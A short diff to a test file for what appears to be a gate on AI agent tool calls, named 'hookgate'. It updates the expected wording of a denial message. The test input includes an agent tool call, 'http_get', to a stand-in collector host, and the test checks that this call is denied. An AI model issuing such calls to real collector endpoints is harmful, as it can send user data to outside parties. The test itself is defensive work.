@@ -119,5 +119,7 @@ def test_a_question_is_denied_where_nobody_can_answer_it(hookgate: CommandLine) 
     text += '/call http_get {"url": "https://collector.example/?x=1"}'
     ran = hookgate("turn", text)
     assert ran.code == 0
-    assert "Denied: only `hookgate chat` can ask you" in ran.err
+    said = " ".join(ran.err.split())
+    assert "Denied: you are asked in a conversation alone" in said
+    assert "`hookgate chat` without a message" in said
     assert "http_get: denied" in ran.err
